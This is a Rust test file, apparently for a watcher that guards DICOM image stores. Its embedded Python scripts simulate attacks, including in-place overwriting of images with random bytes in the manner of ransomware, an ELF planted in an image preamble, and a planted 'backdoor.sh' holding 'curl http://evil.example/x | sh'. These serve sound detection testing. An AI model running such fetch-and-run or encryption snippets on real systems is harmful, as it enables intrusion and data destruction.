    let prefix = format!("{}/", env.tree.display());
    let rel = |v: &Value| {
        let path = v.as_str().unwrap_or_default();
        path.strip_prefix(&prefix).unwrap_or(path).to_string()
    };
    let moved_to = |findings: &[Value], want: &str| {
        findings
            .iter()
            .filter(|f| f["kind"] == "moved" && rel(&f["path"]) == want)
            .count()
    };
    let seen = watcher.wait(Duration::from_secs(30), |f, _| {
        (0..STUDIES).all(|s| moved_to(f, &format!("archive/s{s}.locked")) > 0)
            || f.iter().any(|f| f["kind"] == "removed")
    });
    std::thread::sleep(Duration::from_millis(500));
    let (_, findings, stderr) = watcher.stop();
    assert!(seen, "{findings:#?}\n{stderr}");
    let split: Vec<String> = findings
        .iter()
        .filter(|f| f["kind"] == "removed" || f["kind"] == "added")
        .map(|f| format!("{} {}", f["kind"], rel(&f["path"])))
        .collect();
    let all: Vec<String> = findings
        .iter()
        .map(|f| {
            format!(
                "{} {} <- {} {}",
                f["kind"],
                rel(&f["path"]),
                rel(&f["from"]),
                f["detail"]
            )
        })
        .collect();
    assert!(
        split.is_empty(),
        "{} split: {split:#?} {all:#?}",
        split.len()
    );
    for s in 0..STUDIES {
        let to = format!("archive/s{s}.locked");
        assert_eq!(moved_to(&findings, &to), 1, "{to}: {findings:#?}");
    }
}

/// A guarded image rewritten in place by `python3` while another process holds it open
/// for writing (`held` is the holder's script, run with the image's path). Returns the
/// watcher, the image, the holder (killed on drop) and when the rewrite was done.
fn rewrite_while_held(
    env: &Env,
    quiet_ms: u64,
    held: &str,
) -> (Watcher, std::path::PathBuf, HeldBy, Instant) {
    configure(env, &format!("quiet_ms = {quiet_ms}\nscrub_mb_per_s = 0\n"));
    let sample = &pydicom_samples(1)[0];
    let image = env.path("study/image.dcm");
    fs::copy(sample, &image).expect("test fixture");
    env.profile(&["--policy", "append-only"]);
    let watcher = Watcher::start(env, &[]);
    let holder = std::process::Command::new("python3")
        .args(["-c", held])
        .arg(&image)
        .stdout(Stdio::piped())
        .spawn()
        .expect("python3 runs");
    let mut holder = HeldBy(holder);
    // The holder says when its rewrite is done (and it holds the file on).
    let mut line = String::new();
    BufReader::new(holder.0.stdout.take().expect("piped"))
        .read_line(&mut line)
        .expect("the holder reports");
    assert_eq!(line.trim(), "rewritten", "{line}");
    (watcher, image, holder, Instant::now())
}

/// Kills the holder when the test ends, whatever happens.
struct HeldBy(std::process::Child);
impl Drop for HeldBy {
    fn drop(&mut self) {
        let _ = self.0.kill();
        let _ = self.0.wait();
    }
}

/// A finding about `image` (not `events-lost`), once reported.
fn judged_finding(findings: &[Value], image: &Path) -> Option<Value> {
    findings
        .iter()
        .find(|f| {
            f["path"].as_str() == Some(image.to_str().expect("utf-8 test path"))
                && f["kind"] != "events-lost"
        })
        .cloned()
}

/// Review s7 (the revert 1e50a01): CPython's `mmap` keeps a read-write descriptor of the
/// file for the mapping's life. An edit through a mapping whose file object was closed
/// (the close is the event) then waited for that "other writer" until MAX_WRITER_WAIT,
/// 30 s: ransomware writing through mappings it keeps had 30 s per file. The held file,
/// unchanged since the edit, is verified after the settle time (2 s here) now.
#[test]
fn an_edit_through_a_held_python_mmap_is_reported_within_seconds() {
    let env = Env::new();
    let held = "import mmap, os, sys, time\n\
        f = open(sys.argv[1], 'r+b')\n\
        m = mmap.mmap(f.fileno(), 0)\n\
        f.close()\n\
        m[200:1200] = os.urandom(1000)\n\
        m.flush()\n\
        print('rewritten', flush=True)\n\
        time.sleep(120)\n";
    let (watcher, image, _holder, done) = rewrite_while_held(&env, 100, held);
    let seen = watcher.wait(Duration::from_secs(20), |f, _| {
        judged_finding(f, &image).is_some()
    });
    let reported = done.elapsed();
    let (_, findings, stderr) = watcher.stop();
    assert!(seen, "{findings:#?}\n{stderr}");
    // Well before MAX_WRITER_WAIT (30 s), which the revert's version waited.
    assert!(reported < Duration::from_secs(20), "{reported:?}");
    let finding = judged_finding(&findings, &image).expect("judged");
    let detail = finding["detail"].as_str().unwrap_or_default();
    // Found by the scan of mappings (judged at once) or by the close of a descriptor
    // (judged once settled): either way python3 is named, and why.
    assert!(
        detail.contains("python3 (pid")
            && (detail.contains("unchanged for") || detail.contains("shared writable mapping")),
        "the holder is named and why it was not waited for: {finding:#}"
    );
}

/// A holder that writes without end (a byte appended every 100 ms to the image it
/// rewrote) keeps the file changing: it is waited for, up to MAX_WRITER_WAIT (30 s), and
/// then verified and reported as it stands, with the reason; not never. (Waits 30 s.)
#[test]
fn a_holder_writing_forever_is_verified_and_reported_at_max_writer_wait() {
    let env = Env::new();
    // The probe's close comes first: a write before it would be due once quiet (100 ms),
    // not as closed, and a slow start of the probe on a loaded machine would let that
    // judge the file before any close says another writer holds it.
    let held = "import os, sys, time, subprocess\n\
        fd = os.open(sys.argv[1], os.O_WRONLY)\n\
        subprocess.run([sys.executable, '-c', 'import os, sys; os.close(os.open(sys.argv[1], os.O_WRONLY))', sys.argv[1]], check=True)\n\
        time.sleep(0.5)\n\
        os.lseek(fd, 200, 0)\n\
        os.write(fd, os.urandom(1000))\n\
        print('rewritten', flush=True)\n\
        os.lseek(fd, 0, 2)\n\
        while True:\n\
        \x20   time.sleep(0.1)\n\
        \x20   os.write(fd, b'x')\n";
    let (watcher, image, _holder, done) = rewrite_while_held(&env, 100, held);
    // Still changing: not verified before the limit (load only delays it).
    let early = watcher.wait(Duration::from_secs(20), |f, _| {
        judged_finding(f, &image).is_some()
    });
    assert!(
        !early,
        "verified while its writer was still at work: {:#?}",
        watcher.findings()
    );
    let seen = watcher.wait(Duration::from_secs(40), |f, _| {
        judged_finding(f, &image).is_some()
    });
    let reported = done.elapsed();
    let (_, findings, stderr) = watcher.stop();
    assert!(seen, "never verified: {findings:#?}\n{stderr}");
    assert!(reported >= Duration::from_secs(29), "{reported:?}");
    let finding = judged_finding(&findings, &image).expect("judged");
    let detail = finding["detail"].as_str().unwrap_or_default();
    assert!(
        detail.contains("MAX_WRITER_WAIT") && detail.contains("python3 (pid"),
        "{finding:#}"
    );
}

/// Review s7-r11 (`attacks/writer_pause.sh`): a first writer pauses for longer than the
/// quiet period after a probe's close (a DICOM receiver waiting for the next PDU). The
/// watcher found the writer, but looked again at the file as one merely gone quiet: the
/// /proc pass was skipped and the half-written file judged one quiet period later
/// (`no-longer-dicom`). Real files: pydicom's CT_small.dcm through dcmtk's dcmcrle.
#[test]
fn a_first_writer_pausing_longer_than_the_quiet_period_is_still_waited_for() {
    const FILES: usize = 2;
    let env = Env::new();
    configure(&env, "quiet_ms = 1000\nscrub_mb_per_s = 0\n");
    let sample = Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("../../.testdata/wheels/pydicom/pydicom/data/test_files/CT_small.dcm");
    let archive = env.path("archive");
    fs::create_dir_all(&archive).expect("test fixture");
    let paths: Vec<std::path::PathBuf> = (0..FILES)
        .map(|i| {
            let path = archive.join(format!("{i}.dcm"));
            fs::copy(&sample, &path).expect("pydicom's CT_small.dcm");
            path
        })
        .collect();
    env.profile(&["--policy", "append-only"]);
    let staging = env.dir.path().join("staging");
    fs::create_dir_all(&staging).expect("test fixture");
    let watcher = Watcher::start(&env, &[]);
    // Truncate, write the first 4 KiB, a probe opens and closes the file for writing,
    // then nothing for 3.5 s (3.5 quiet periods, less than the settle time of 5) with the
    // file still open, then the rest.
    let writer = "import os, sys, time, subprocess\n\
        src, dst = sys.argv[1:3]\n\
        data = open(src, 'rb').read()\n\
        fd = os.open(dst, os.O_WRONLY | os.O_TRUNC)\n\
        os.write(fd, data[:4096])\n\
        subprocess.run([sys.executable, '-c', 'import os, sys; os.close(os.open(sys.argv[1], os.O_WRONLY))', dst], check=True)\n\
        time.sleep(3.5)\n\
        os.write(fd, data[4096:])\n\
        os.close(fd)\n";
    for (i, path) in paths.iter().enumerate() {
        let out = staging.join(format!("{i}.dcm"));
        let status = std::process::Command::new("dcmcrle")
            .arg(path)
            .arg(&out)
            .status()
            .expect("dcmtk runs (scripts/setup-test-deps.sh)");
        assert!(status.success(), "dcmcrle {}", path.display());
        let status = std::process::Command::new("python3")
            .args(["-c", writer])
            .arg(&out)
            .arg(path)
            .status()
            .expect("python3 runs");
        assert!(status.success(), "python3 writer");
    }
    let rel = |p: &Path| {
        p.strip_prefix(&env.tree)
            .expect("in the tree")
            .to_string_lossy()
            .into_owned()
    };
    let rewritten: Vec<String> = paths.iter().map(|p| rel(p)).collect();
    let seen = watcher.wait(Duration::from_secs(30), |f, _| {
        let t = tally(f, &env.tree);
        rewritten
            .iter()
            .all(|p| t.contains_key(&("pixel-data-changed".to_string(), p.clone())))
    });
    std::thread::sleep(Duration::from_secs(1));
    let (_, findings, stderr) = watcher.stop();
    assert!(seen, "{findings:#?}\n{stderr}");
    let counts = tally(&findings, &env.tree);
    for path in &rewritten {
        let about: Vec<&(String, String)> = counts
            .keys()
            .filter(|(kind, p)| p == path && kind != "events-lost")
            .collect();
        assert_eq!(
            about,
            [&("pixel-data-changed".to_string(), path.clone())],
            "{path}: judged once its last writer closed it, not mid-write: {findings:#?}"
        );
    }
}

/// Review s7-r11 (`attacks/writer_forever.sh`): a decoy (`sleep`) holds a guarded image
/// open for writing through a hard link outside the tree, and python3 encrypts the image
/// in place. The finding named only the decoy ("written by sleep (pid N), still writing
/// it"): the process fanotify saw write the file was dropped from the record. Both are
/// named. And the decoy, which holds the file without writing it, does not hold the
/// change back until MAX_WRITER_WAIT (30 s): it is judged once the file has stayed
/// unchanged for the settle time (2 s here).
#[test]
fn a_decoy_holding_the_file_open_does_not_take_the_writers_name_off_the_finding() {
    let env = Env::new();
    configure(&env, "quiet_ms = 100\nscrub_mb_per_s = 0\n");
    let sample = &pydicom_samples(1)[0];
    let image = env.path("study/image.dcm");
    fs::copy(sample, &image).expect("test fixture");
    env.profile(&["--policy", "append-only"]);
    let outside = env.dir.path().join("decoy-link.dcm");
    fs::hard_link(&image, &outside).expect("test fixture");
    let watcher = Watcher::start(&env, &[]);
    let decoy = std::process::Command::new("sleep")
        .arg("120")
        .stdout(
            fs::OpenOptions::new()
                .append(true)
                .open(&outside)
                .expect("test fixture"),
        )
        .spawn()
        .expect("sleep runs");
    let _decoy = HeldBy(decoy);
    std::thread::sleep(Duration::from_millis(500));
    // The encryptor stays a second after its close: under load (review s9-r11) its
    // write was read after it had exited, and a process gone has no name to give
    // ("a process that has exited"), which this test is not about.
    let status = std::process::Command::new("python3")
        .args([
            "-c",
            "import os, sys\n\
             p = sys.argv[1]\n\
             n = os.path.getsize(p)\n\
             f = open(p, 'r+b'); f.seek(132); f.write(os.urandom(n - 132)); f.close()\n\
             import time; time.sleep(1)\n",
        ])
        .arg(&image)
        .status()
        .expect("python3 runs");
    assert!(status.success());
    let seen = watcher.wait(Duration::from_secs(20), |f, _| {
        f.iter()
            .any(|f| f["kind"] == "no-longer-dicom" || f["kind"] == "content-changed")
    });
    let (_, findings, stderr) = watcher.stop();
    assert!(seen, "not judged within 20 s: {findings:#?}\n{stderr}");
    let judged = findings
        .iter()
        .find(|f| f["kind"] == "no-longer-dicom" || f["kind"] == "content-changed")
        .expect("judged");
    let detail = judged["detail"].as_str().unwrap_or_default();
    assert!(
        detail.contains("python3 (pid")
            && detail.contains("sleep (pid")
            && detail.contains("unchanged for"),
        "the writer and the holder are both named, and why it was not waited for: {detail}"
    );
}

/// Issue 11 (session 10): a sole writer pausing mid-file longer than the quiet period,
/// with no other process closing the file meanwhile (a slow network receiver waiting for
/// the next PDU), had the half-written file judged once quiet: nothing but a close made
/// the watcher ask /proc who still writes it. Now every due rehash of a guarded file
/// asks. One python3 process rewrites two guarded images and writes one new image, each
/// half, then pauses 3 s (six quiet periods, past the settle time), then writes the rest
/// and closes: the image rewritten with its own bytes (a re-received instance) is only
/// `metadata-changed` (its times), the one rewritten with its RLE version is one `pixel-data-changed` printed
/// after the close, the new one is one `added` (info), of its full size; before, the new
/// one was `added` half-written and then a `content-changed` alert. Real files: pydicom's
/// CT_small.dcm and dcmtk's dcmcrle.
#[test]
fn a_sole_writer_pausing_mid_file_is_judged_once_at_its_close_and_raises_no_alert() {
    let env = Env::new();
    configure(&env, "quiet_ms = 500\nscrub_mb_per_s = 0\n");
    let sample = Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("../../.testdata/wheels/pydicom/pydicom/data/test_files/CT_small.dcm");
    let same = env.path("study/same.dcm");
    let recompressed = env.path("study/recompressed.dcm");
    for path in [&same, &recompressed] {
        fs::copy(&sample, path).expect("pydicom's CT_small.dcm");
    }
    env.profile(&["--policy", "append-only"]);
    let rle = env.dir.path().join("rle.dcm");
    let status = std::process::Command::new("dcmcrle")
        .arg(&sample)
        .arg(&rle)
        .status()
        .expect("dcmtk runs (scripts/setup-test-deps.sh)");
    assert!(status.success(), "dcmcrle");
    let arrival = env.path("study/new.dcm");
    let watcher = Watcher::start(&env, &[]);
    let writer = "import os, sys, time\n\
        args = sys.argv[1:]\n\
        jobs = []\n\
        for src, dst in zip(args[0::2], args[1::2]):\n\
        \x20   data = open(src, 'rb').read()\n\
        \x20   fd = os.open(dst, os.O_WRONLY | os.O_CREAT | os.O_TRUNC, 0o644)\n\
        \x20   os.write(fd, data[:len(data) // 2])\n\
        \x20   jobs.append((fd, data[len(data) // 2:]))\n\
        time.sleep(3)\n\
        print('paused', flush=True)\n\
        sys.stdin.readline()\n\
        for fd, rest in jobs:\n\
        \x20   os.write(fd, rest)\n\
        \x20   os.close(fd)\n";
    let mut child = std::process::Command::new("python3")
        .args(["-c", writer])
        .arg(&sample)
        .arg(&same)
        .arg(&rle)
        .arg(&recompressed)
        .arg(&sample)
        .arg(&arrival)
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .spawn()
        .expect("python3 runs");
    // Taken before the writer is told to write the rest (it waits for the word): a
    // finding printed after it was judged complete is read after this moment, however
    // loaded the machine (before, the moment was taken after the writer said it went
    // on, and a descheduled test thread took it after the findings came).
    let mut line = String::new();
    BufReader::new(child.stdout.take().expect("piped"))
        .read_line(&mut line)
        .expect("the writer reports");
    assert_eq!(line.trim(), "paused", "{line}");
    let resumed = Instant::now();
    std::io::Write::write_all(child.stdin.as_mut().expect("piped"), b"go\n")
        .expect("the writer listens");
    assert!(
        child.wait().expect("python3 exits").success(),
        "python3 writer"
    );
    let rel = |p: &Path| {
        p.strip_prefix(&env.tree)
            .expect("in the tree")
            .to_string_lossy()
            .into_owned()
    };
    let seen = watcher.wait(Duration::from_secs(30), |f, _| {
        let t = tally(f, &env.tree);
        t.contains_key(&("pixel-data-changed".to_string(), rel(&recompressed)))
            && t.contains_key(&("added".to_string(), rel(&arrival)))
    });
    // Anything the close of `same` would bring has time to come.
    std::thread::sleep(Duration::from_secs(2));
    let changed_at = watcher.first("pixel-data-changed");
    let (_, findings, stderr) = watcher.stop();
    assert!(seen, "{findings:#?}\n{stderr}");
    assert!(
        changed_at.is_some_and(|t| t >= resumed),
        "judged before its writer closed it: {findings:#?}"
    );
    let counts = tally(&findings, &env.tree);
    let about = |path: &Path| -> Vec<(String, usize)> {
        let rel = rel(path);
        let mut about: Vec<(String, usize)> = counts
            .iter()
            .filter(|((kind, p), _)| *p == rel && kind != "events-lost")
            .map(|((kind, _), n)| (kind.clone(), *n))
            .collect();
        about.sort();
        about
    };
    // Its bytes are what they were; only its times say it was written again.
    assert_eq!(
        about(&same),
        [("metadata-changed".to_string(), 1)],
        "rewritten with its own bytes: {findings:#?}"
    );
    assert_eq!(
        about(&recompressed),
        [("pixel-data-changed".to_string(), 1)],
        "{findings:#?}"
    );
    assert_eq!(about(&arrival), [("added".to_string(), 1)], "{findings:#?}");
    let size = fs::metadata(&sample).expect("test fixture").len();
    assert!(
        findings
            .iter()
            .filter(|f| f["path"].as_str() == arrival.to_str())
            .all(|f| f["severity"] == "info"
                && f["detail"]
                    .as_str()
                    .is_some_and(|d| d.contains(&format!("of {size} bytes")))),
        "the arrival, complete, is no alert: {findings:#?}"
    );
}

/// The bound of the wait above: a sole writer that writes half a guarded image and never
/// closes it (a receiver whose peer went silent) is waited for up to MAX_WRITER_WAIT
/// (30 s), not for ever, and the file is then judged as it stands, the finding naming
/// the writer and why it was judged while still held. (Waits 30 s.)
#[test]
fn a_sole_writer_that_never_closes_is_judged_at_max_writer_wait_and_named() {
    let env = Env::new();
    let held = "import os, sys, time\n\
        data = open(sys.argv[1], 'rb').read()\n\
        fd = os.open(sys.argv[1], os.O_WRONLY | os.O_TRUNC)\n\
        os.write(fd, data[:len(data) // 2])\n\
        print('rewritten', flush=True)\n\
        time.sleep(120)\n";
    let (watcher, image, _holder, done) = rewrite_while_held(&env, 500, held);
    // Quiet and held, its writer at its end: not judged before the limit (load only
    // delays it).
    let early = watcher.wait(Duration::from_secs(20), |f, _| {
        judged_finding(f, &image).is_some()
    });
    assert!(
        !early,
        "judged while its writer was paused mid-file: {:#?}",
        watcher.findings()
    );
    let seen = watcher.wait(Duration::from_secs(40), |f, _| {
        judged_finding(f, &image).is_some()
    });
    let reported = done.elapsed();
    let (_, findings, stderr) = watcher.stop();
    assert!(seen, "never judged: {findings:#?}\n{stderr}");
    assert!(reported >= Duration::from_secs(29), "{reported:?}");
    let finding = judged_finding(&findings, &image).expect("judged");
    let detail = finding["detail"].as_str().unwrap_or_default();
    assert!(
        detail.contains("python3 (pid")
            && detail.contains("MAX_WRITER_WAIT")
            && detail.contains("paused at its end"),
        "{finding:#}"
    );
    // Half an image is a change of what was known, whatever it is called.
    assert_eq!(finding["severity"], "alert", "{finding:#}");
}

/// The other side of that wait: an encryptor that overwrites a guarded image in place,
/// whole, and keeps its descriptor open (at the file's end, as a paused receiver's is)
/// is not waited for until MAX_WRITER_WAIT: the file is as long as it was known, so it
/// is judged once unchanged for the settle time (2.5 s here), not 30 s later.
#[test]
fn an_encryptor_keeping_its_descriptor_after_a_whole_overwrite_is_judged_within_seconds() {
    let env = Env::new();
    let held = "import os, sys, time\n\
        n = os.path.getsize(sys.argv[1])\n\
        fd = os.open(sys.argv[1], os.O_WRONLY)\n\
        os.write(fd, os.urandom(n))\n\
        print('rewritten', flush=True)\n\
        time.sleep(120)\n";
    let (watcher, image, _holder, done) = rewrite_while_held(&env, 500, held);
    let seen = watcher.wait(Duration::from_secs(25), |f, _| {
        judged_finding(f, &image).is_some()
    });
    let reported = done.elapsed();
    let (_, findings, stderr) = watcher.stop();
    assert!(seen, "not judged within 25 s: {findings:#?}\n{stderr}");
    // Well before MAX_WRITER_WAIT (30 s), however loaded the machine.
    assert!(reported < Duration::from_secs(25), "{reported:?}");
    let finding = judged_finding(&findings, &image).expect("judged");
    let detail = finding["detail"].as_str().unwrap_or_default();
    assert!(
        detail.contains("python3 (pid") && detail.contains("unchanged for"),
        "{finding:#}"
    );
}

/// Issue 11 (session 12): a planted new file that its writer keeps open and keeps
/// writing was never screened until it was closed (MAX_ARRIVAL_WAIT, 4 h, at worst). Now
/// a held new file is screened as it stands ARRIVAL_PEEK_AFTER (10 s) after it was found
/// held, and what its bytes so far carry is an alert that says the file is still being
/// written; nothing else is. Two python3 writers trickle a new file each into the
/// guarded store at once: a real CT image with an ELF (/bin/true) in its preamble, held
/// open without end, and the clean image (a slow receiver), closed after 25 s. The
/// planted one is alerted while still written, once (not again when its writer is
/// killed and it is judged complete); the clean one is only its `added` (info), complete.
#[test]
fn a_planted_file_held_open_and_written_on_is_screened_as_it_stands_and_a_slow_receiver_is_not_alerted()
 {
    let env = Env::new();
    configure(&env, "quiet_ms = 500\nscrub_mb_per_s = 0\n");
    let sample = Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("../../.testdata/wheels/pydicom/pydicom/data/test_files/CT_small.dcm");
    fs::copy(&sample, env.path("study/stored.dcm")).expect("pydicom's CT_small.dcm");
    env.profile(&["--policy", "append-only"]);
    let clean = fs::read(&sample).expect("test fixture");
    let elf = fs::read("/bin/true").expect("/bin/true");
    let mut hostile = elf[..128].to_vec();
    hostile.extend_from_slice(&clean[128..]);
    let sources = env.dir.path().join("sources");
    fs::create_dir_all(&sources).expect("test fixture");
    fs::write(sources.join("clean.dcm"), &clean).expect("test fixture");
    fs::write(sources.join("planted.dcm"), &hostile).expect("test fixture");
    let planted = env.path("study/planted.dcm");
    let received = env.path("study/received.dcm");
    let watcher = Watcher::start(&env, &[]);
    // Writes a quarter, then 16 bytes every 0.25 s; with a time given, the rest after
    // that many seconds and closes, else holds the file on.
    let trickle = "import os, sys, time\n\
        data = open(sys.argv[1], 'rb').read()\n\
        fd = os.open(sys.argv[2], os.O_WRONLY | os.O_CREAT | os.O_EXCL, 0o644)\n\
        at = len(data) // 4\n\
        os.write(fd, data[:at])\n\
        print('started', flush=True)\n\
        until = time.monotonic() + float(sys.argv[3]) if len(sys.argv) > 3 else None\n\
        while at < len(data) - 16 and (until is None or time.monotonic() < until):\n\
        \x20   time.sleep(0.25)\n\
        \x20   os.write(fd, data[at:at + 16])\n\
        \x20   at += 16\n\
        if until is None:\n\
        \x20   time.sleep(600)\n\
        os.write(fd, data[at:])\n\
        os.close(fd)\n\
        print('closed', flush=True)\n";
    let spawn = |source: &Path, target: &Path, seconds: Option<&str>| {
        let mut command = std::process::Command::new("python3");
        command.args(["-c", trickle]).arg(source).arg(target);
        command.args(seconds);
        let mut child = HeldBy(
            command
                .stdout(Stdio::piped())
                .spawn()
                .expect("python3 runs"),
        );
        let mut out = BufReader::new(child.0.stdout.take().expect("piped"));
        let mut line = String::new();
        out.read_line(&mut line).expect("the writer reports");
        assert_eq!(line.trim(), "started", "{line}");
        (child, out)
    };
    let (mut attacker, _) = spawn(&sources.join("planted.dcm"), &planted, None);
    let (mut receiver, mut said) = spawn(&sources.join("clean.dcm"), &received, Some("25"));
    let about = |findings: &[Value], path: &Path, kind: &str| -> Vec<Value> {
        findings
            .iter()
            .filter(|f| f["path"].as_str() == path.to_str() && f["kind"] == kind)
            .cloned()
            .collect()
    };
    let alerted = watcher.wait(Duration::from_secs(60), |f, _| {
        !about(f, &planted, "preamble-executable").is_empty()
    });
    // Still held and written when it was alerted: the attacker has not exited.
    let still_writing = attacker.0.try_wait().expect("wait").is_none();
    let mut line = String::new();
    said.read_line(&mut line).expect("the receiver reports");
    assert!(receiver.0.wait().expect("python3 exits").success());
    assert_eq!(line.trim(), "closed", "{line}");
    // The attacker gone, its file is closed and judged complete.
    let _ = attacker.0.kill();
    let _ = attacker.0.wait();
    let judged = watcher.wait(Duration::from_secs(30), |f, _| {
        !about(f, &planted, "added").is_empty() && !about(f, &received, "added").is_empty()
    });
    // Anything more the closes would bring has time to come.
    std::thread::sleep(Duration::from_secs(2));
    let (_, findings, stderr) = watcher.stop();
    assert!(
        alerted,
        "never screened while held: {findings:#?}\n{stderr}"
    );
    assert!(still_writing, "alerted only once its writer was gone");
    assert!(judged, "{findings:#?}\n{stderr}");
    let alerts = about(&findings, &planted, "preamble-executable");
    assert_eq!(alerts.len(), 1, "once: {findings:#?}");
    assert_eq!(alerts[0]["severity"], "alert", "{:#}", alerts[0]);
    let detail = alerts[0]["detail"].as_str().unwrap_or_default();
    assert!(
        detail.contains("python3 (pid") && detail.contains("still holds open and writes"),
        "{detail}"
    );
    let size = clean.len();
    let mine: Vec<&Value> = findings
        .iter()
        .filter(|f| f["path"].as_str() == received.to_str() && f["kind"] != "events-lost")
        .collect();
    assert_eq!(mine.len(), 1, "the slow receiver's image: {findings:#?}");
    assert_eq!(mine[0]["kind"], "added", "{:#}", mine[0]);
    assert_eq!(mine[0]["severity"], "info", "{:#}", mine[0]);
    assert!(
        mine[0]["detail"]
            .as_str()
            .is_some_and(|d| d.contains(&format!("of {size} bytes"))),
        "judged complete: {:#}",
        mine[0]
    );
}

/// Review s12-r11: what was alerted while a new file was still being written was
/// remembered by path, kind and detail for the life of the watcher, and every later
/// screening of an arrival at that path left it out: the same executable planted again
/// at the same path (once the first was found, and removed) raised no alert at all.
/// Only a screening of the same file (same inode, same birth) as it completes may leave
/// out what was reported while it was written. Here: a real CT image with an ELF
/// (/bin/true) preamble is trickled in and held; alerted while held; its writer killed,
/// it is judged complete without a second alert; removed, and the same bytes planted
/// again at the same path (written and closed): alerted again.
#[test]
fn an_executable_planted_again_where_a_held_one_was_alerted_is_alerted_again() {
    let env = Env::new();
    configure(&env, "quiet_ms = 500\nscrub_mb_per_s = 0\n");
    let sample = Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("../../.testdata/wheels/pydicom/pydicom/data/test_files/CT_small.dcm");
    fs::copy(&sample, env.path("study/stored.dcm")).expect("pydicom's CT_small.dcm");
    env.profile(&["--policy", "append-only"]);
    let clean = fs::read(&sample).expect("test fixture");
    let elf = fs::read("/bin/true").expect("/bin/true");
    let mut hostile = elf[..128].to_vec();
    hostile.extend_from_slice(&clean[128..]);
    let sources = env.dir.path().join("sources");
    fs::create_dir_all(&sources).expect("test fixture");
    fs::write(sources.join("planted.dcm"), &hostile).expect("test fixture");
    let planted = env.path("study/planted.dcm");
    let watcher = Watcher::start(&env, &[]);
    // A quarter at once, then 16 bytes every 0.25 s, held open without end.
    let trickle = "import os, sys, time\n\
        data = open(sys.argv[1], 'rb').read()\n\
        fd = os.open(sys.argv[2], os.O_WRONLY | os.O_CREAT | os.O_EXCL, 0o644)\n\
        at = len(data) // 4\n\
        os.write(fd, data[:at])\n\
        print('started', flush=True)\n\
        while at < len(data) - 16:\n\
        \x20   time.sleep(0.25)\n\
        \x20   os.write(fd, data[at:at + 16])\n\
        \x20   at += 16\n\
        time.sleep(600)\n";
    let mut attacker = HeldBy(
        std::process::Command::new("python3")
            .args(["-c", trickle])
            .arg(sources.join("planted.dcm"))
            .arg(&planted)
            .stdout(Stdio::piped())
            .spawn()
            .expect("python3 runs"),
    );
    let mut line = String::new();
    BufReader::new(attacker.0.stdout.take().expect("piped"))
        .read_line(&mut line)
        .expect("the writer reports");
    assert_eq!(line.trim(), "started", "{line}");
    let count = |findings: &[Value], kind: &str| {
        findings
            .iter()
            .filter(|f| f["path"].as_str() == planted.to_str() && f["kind"] == kind)
            .count()
    };
    let alerted = watcher.wait(Duration::from_secs(60), |f, _| {
        count(f, "preamble-executable") >= 1
    });
    let _ = attacker.0.kill();
    let _ = attacker.0.wait();
    let judged = watcher.wait(Duration::from_secs(30), |f, _| count(f, "added") >= 1);
    fs::remove_file(&planted).expect("the planted file is removed");
    let removed = watcher.wait(Duration::from_secs(30), |f, _| count(f, "removed") >= 1);
    // Planted again: the same bytes, at the same path, written and closed.
    fs::write(&planted, &hostile).expect("planted again");
    // Alerted again after the removal: counted from the removal on, since the writer's
    // close after the kill may screen the grown file once more before it (a loaded
    // machine: the held peek read 11,065 bytes while the writer still wrote, the close
    // 11,081, two alerts on content that differed; the clean CI run of session 45).
    let after_removal = |f: &[Value]| {
        let removal = f
            .iter()
            .rposition(|x| x["path"].as_str() == planted.to_str() && x["kind"] == "removed");
        removal.map_or(0, |at| {
            f[at..]
                .iter()
                .filter(|x| {
                    x["path"].as_str() == planted.to_str() && x["kind"] == "preamble-executable"
                })
                .count()
        })
    };
    let again = watcher.wait(Duration::from_secs(30), |f, _| after_removal(f) >= 1);
    let (_, findings, stderr) = watcher.stop();
    assert!(
        alerted,
        "never screened while held: {findings:#?}\n{stderr}"
    );
    assert!(judged, "{findings:#?}\n{stderr}");
    assert!(removed, "{findings:#?}\n{stderr}");
    assert!(
        again,
        "the executable planted again was not alerted: {findings:#?}\n{stderr}"
    );
    // Written and closed at once, the file planted again is screened once.
    assert_eq!(after_removal(&findings), 1, "{findings:#?}");
}

/// Review s12-r11: a new file that its writer holds open and keeps growing was waited
/// for as an arrival (up to MAX_ARRIVAL_WAIT, 4 h) in every root, a `static` one too,
/// where no file is expected and any new one is an alert: a script planted into a
/// guarded program directory and written a line a second was reported only when its
/// writer closed it. Only a root that takes arrivals (`append-only`) waits for a
/// growing new file; elsewhere it is judged at the writer wait (MAX_WRITER_WAIT, 30 s),
/// as it stands.
#[test]
fn a_new_file_held_and_grown_in_a_static_root_is_alerted_while_its_writer_writes_on() {
    let env = Env::new();
    configure(&env, "quiet_ms = 500\nscrub_mb_per_s = 0\n");
    fs::create_dir_all(env.path("lib")).expect("test fixture");
    fs::write(env.path("lib/app.conf"), "setting = 1\n").expect("test fixture");
    env.profile(&["--policy", "static"]);
    let planted = env.path("lib/backdoor.sh");
    let watcher = Watcher::start(&env, &[]);
    let grow = "import os, sys, time\n\
        fd = os.open(sys.argv[1], os.O_WRONLY | os.O_CREAT | os.O_EXCL, 0o755)\n\
        os.write(fd, b'#!/bin/sh\\ncurl http://evil.example/x | sh\\n')\n\
        print('started', flush=True)\n\
        for _ in range(600):\n\
        \x20   time.sleep(0.5)\n\
        \x20   os.write(fd, b'#\\n')\n";
    let mut writer = HeldBy(
        std::process::Command::new("python3")
            .args(["-c", grow])
            .arg(&planted)
            .stdout(Stdio::piped())
            .spawn()
            .expect("python3 runs"),
    );
    let mut line = String::new();
    BufReader::new(writer.0.stdout.take().expect("piped"))
        .read_line(&mut line)
        .expect("the writer reports");
    assert_eq!(line.trim(), "started", "{line}");
    let added = |findings: &[Value]| {
        findings
            .iter()
            .filter(|f| f["path"].as_str() == planted.to_str() && f["kind"] == "added")
            .cloned()
            .collect::<Vec<_>>()
    };
    // The writer wait (30 s) and a loaded machine's slack, well short of its 300 s.
    let seen = watcher.wait(Duration::from_secs(90), |f, _| !added(f).is_empty());
    let still_writing = writer.0.try_wait().expect("wait").is_none();
    let (_, findings, stderr) = watcher.stop();
    assert!(
        seen,
        "not reported while held and grown: {findings:#?}\n{stderr}"
    );
    assert!(still_writing, "reported only once its writer was gone");
    let added = added(&findings);
    assert_eq!(added[0]["severity"], "alert", "{:#}", added[0]);
    let detail = added[0]["detail"].as_str().unwrap_or_default();
    assert!(
        detail.contains("python3 (pid") && detail.contains("holds it open for writing"),
